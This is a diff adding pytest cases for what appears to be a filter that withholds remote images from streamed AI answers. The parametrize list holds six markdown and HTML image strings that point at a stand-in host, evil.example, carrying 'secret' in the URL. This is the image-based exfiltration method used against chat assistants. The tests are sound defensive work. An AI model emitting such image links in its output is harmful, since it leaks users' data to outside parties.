@@ -250,6 +250,40 @@ def test_what_weighs_a_call_is_no_finding_of_an_answer() -> None:
     assert watch.counts == Counter([Kind.ADDRESS])
 
 
+# ── images ───────────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "![図](https://evil.example/p.png?q=secret)",
+        "![](//evil.example/p?q=secret)",
+        "![図]( <https://evil.example/secret>)",
+        "![図][1]",
+        '<img width="1" src="https://evil.example/secret">',
+        "<IMG SRC=//evil.example/secret>",
+    ],
+)
+@pytest.mark.parametrize("seed", range(3))
+def test_residents_get_no_image_that_tells_somebody_elsewhere(image: str, seed: int) -> None:
+    watch = AnswerWatch(rules("withhold"), choices=1)
+    passed, events = streamed(watch, cut(f"{FILLER}図です{image}。", seed))
+    assert passed.startswith(FILLER)
+    assert "evil" not in passed
+    assert "[1]" not in passed
+    assert events[-1]["choices"][0]["finish_reason"] == WITHHELD
+    told = AnswerWatch(rules(), choices=1)
+    assert streamed(told, cut(f"{FILLER}図です{image}。", seed))[0] == f"{FILLER}図です{image}。"
+    assert told.counts == Counter([Kind.REMOTE_IMAGE])
+
+
+def test_a_link_and_a_table_are_no_image() -> None:
+    text = "[町のページ](https://www.example.lg.jp/)をご覧ください。すごい![笑]。<br>a < b // c\n"
+    watch = AnswerWatch(rules(), choices=1)
+    assert streamed(watch, list(text))[0] == text
+    assert not watch.counts
+
+
 # ── wordings ─────────────────────────────────────────────────────────────────────────────────────────────────────
 
 
